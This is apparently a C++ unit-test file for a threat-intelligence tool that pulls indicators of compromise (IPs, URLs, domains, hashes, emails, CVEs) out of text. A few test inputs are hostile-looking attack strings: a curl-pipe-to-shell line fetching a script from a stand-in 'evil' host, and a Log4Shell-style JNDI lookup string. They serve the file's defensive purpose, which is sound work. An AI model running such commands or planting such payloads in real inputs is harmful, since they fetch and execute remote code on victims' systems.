#include "ingest/ioc.h"

#include <gtest/gtest.h>

namespace tocsin::ingest {
namespace {

// "kind:value" of all that was mined, in order, joined by blanks.
std::string mined(std::string_view text) {
  std::vector<model::Ioc> found;
  mine_iocs(text, found);
  std::string out;
  for (const auto& ioc : found) {
    if (!out.empty()) out += ' ';
    out += std::string(model::to_text(ioc.kind)) + ':' + ioc.value;
  }
  return out;
}

TEST(MineIocs, FindsAddressesWithPortsAndBrackets) {
  EXPECT_EQ(mined("from 203.0.113.9:4444, then 8.8.4.4."), "ip:203.0.113.9 ip:8.8.4.4");
  EXPECT_EQ(mined("src=198.51.100.7 dst=10.0.0.1"), "ip:198.51.100.7");
  EXPECT_EQ(mined("(203.0.113.9) [198.51.100.1]"), "ip:203.0.113.9 ip:198.51.100.1");
  EXPECT_EQ(mined("to [2001:db8::bad]:8443 and 2606:4700::1111"), "ip:2001:db8::bad ip:2606:4700::1111");
  EXPECT_EQ(mined("ip:203.0.113.9"), "ip:203.0.113.9");
  EXPECT_EQ(mined("::ffff:203.0.113.9"), "ip:203.0.113.9");
}

TEST(MineIocs, NeverPrivateOrReservedAddresses) {
  for (const auto* text :
       {"10.1.2.3", "192.168.0.1:80", "172.31.255.255", "127.0.0.1", "169.254.1.1", "100.64.0.1",
        "224.0.0.251", "0.0.0.0", "255.255.255.255", "fe80::1%eth0", "::1", "fd00::1", "ff02::fb",
        "203.0.113.0/24", "http://10.0.0.5/x", "http://intranet.local/x", "198.18.0.5"}) {
    EXPECT_EQ(mined(text), "") << text;
  }
}

TEST(MineIocs, NeverVersionsTimesOrMacs) {
  for (const auto* text :
       {"Chrome/138.0.0.0", "version 1.2.3.4", "Build: 5.6.7.8", "v10.2.3.4", "10.0.26100.4202", "12:30:45",
        "00:80:48:1c:24:91", "std::string", "1.2.3", "1.2.3.4.5", "01.02.03.04"}) {
    EXPECT_EQ(mined(text), "") << text;
  }
}

TEST(MineIocs, RefangsWhatPeopleDefang) {
  EXPECT_EQ(mined("hxxps://evil[.]example[.]com/a?b=c"),
            "url:https://evil.example.com/a?b=c domain:evil.example.com");
  EXPECT_EQ(mined("203[.]0[.]113[.]9"), "ip:203.0.113.9");
  EXPECT_EQ(mined("evil(.)sh and bad[dot]ru"), "domain:evil.sh domain:bad.ru");
  EXPECT_EQ(mined("bob[at]evil[.]com"), "email:bob@evil.com");
  EXPECT_EQ(mined("http[:]//evil.com/x"), "url:http://evil.com/x domain:evil.com");
}

TEST(MineIocs, FindsUrlsAndTheirHosts) {
  EXPECT_EQ(mined("curl -s http://EVIL.com:8080/Run.sh|sh"),
            "url:http://evil.com:8080/Run.sh domain:evil.com");
  EXPECT_EQ(mined("see <https://a.evil.ru/x>."), "url:https://a.evil.ru/x domain:a.evil.ru");
  EXPECT_EQ(mined("url=ftp://203.0.113.9/f"), "url:ftp://203.0.113.9/f ip:203.0.113.9");
  EXPECT_EQ(mined("${jndi:ldap://203.0.113.9:1389/a}"), "url:ldap://203.0.113.9:1389/a ip:203.0.113.9");
}

TEST(MineIocs, FindsDomainsButNoFilesClassesOrInnerNames) {
  EXPECT_EQ(mined("beacon to c2.evil-host.top today"), "domain:c2.evil-host.top");
  EXPECT_EQ(mined("evil.com/payload.exe"), "domain:evil.com");
  for (const auto* text :
       {"cmd.exe", "run.py", "deploy.sh", "System.Net", "WScript.Shell", "java.lang.String",
        "com.example.app", "org.apache.struts", "ASP.NET", "dc01.corp.local", "web-1.internal", "README.md",
        "user.name", "C:\\Temp\\evil.com", "/usr/bin/evil.com", "lib.so", "e.g.", "a_b.com"}) {
    EXPECT_EQ(mined(text), "") << text;
  }
}

TEST(MineIocs, FindsHashesByLengthAndSkipsEmptyOnes) {
  const std::string md5 = "44d88612fea8a8f36de82e1278abb02f";
  const std::string sha1 = "3395856ce81f2b7382dee72602f798b642f14140";
  const std::string sha256 = "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f";
  EXPECT_EQ(mined("MD5=" + md5 + ",SHA1=" + sha1), "md5:" + md5 + " sha1:" + sha1);
  EXPECT_EQ(mined("sha256:" + sha256), "sha256:" + sha256);
  EXPECT_EQ(mined("d41d8cd98f00b204e9800998ecf8427e"), "");
  EXPECT_EQ(mined(std::string(40, '0')), "");
  EXPECT_EQ(mined(std::string(33, 'a')), "");
  EXPECT_EQ(mined("/login?token=" + md5), "");
}

TEST(MineIocs, FindsMailAddressesAndCves) {
  EXPECT_EQ(mined("From: Bob <Bob.X+1@Evil.example.com>"), "email:bob.x+1@evil.example.com");
  EXPECT_EQ(mined("exploits cve-2021-44228 (CVE-2017-0144)"), "cve:CVE-2021-44228 cve:CVE-2017-0144");
  EXPECT_EQ(mined("CVE-20-1 CVE-2021-ABCD user@localhost"), "");
}

TEST(MineIocs, NeverConsolesAndSchemas) {
  for (const auto* text : {"https://portal.azure.com/#asset/x", "https://security.microsoft.com/alerts/1",
                           "http://schemas.microsoft.com/win/2004", "http://www.w3.org/2001/XMLSchema",
                           "https://attack.mitre.org/techniques/T1110/"}) {
    EXPECT_EQ(mined(text), "") << text;
  }
}

TEST(MineIocs, KeepsWithinItsBoundOnAnyAmountOfText) {
  std::string many;
  for (int i = 0; i < 5000; ++i)
    many += "1.2." + std::to_string(i / 250 + 1) + '.' + std::to_string(i % 250 + 1) + ' ';
  std::vector<model::Ioc> found;
  mine_iocs(many, found);
  EXPECT_EQ(found.size(), model::kMaxIocs);
  mine_iocs(std::string(1U << 20, '['), found);
  mine_iocs(std::string(1U << 20, 'a').append(".com"), found);
  EXPECT_EQ(found.size(), model::kMaxIocs);
}

TEST(MakeIoc, AcceptsOnlyWhatTheFieldPromises) {
  using model::IocKind;
  EXPECT_EQ(make_ioc(IocKind::kIp, " 203.0.113.9:80 ")->value, "203.0.113.9");
  EXPECT_EQ(make_ioc(IocKind::kDomain, "Evil.SH.")->value, "evil.sh");
  EXPECT_FALSE(make_ioc(IocKind::kIp, "10.0.0.1"));
  EXPECT_FALSE(make_ioc(IocKind::kDomain, "dc01"));
  EXPECT_FALSE(make_ioc(IocKind::kMd5, std::string(40, 'a')));
  EXPECT_FALSE(make_ioc(IocKind::kUrl, "/relative"));
}

}  // namespace
}  // namespace tocsin::ingest
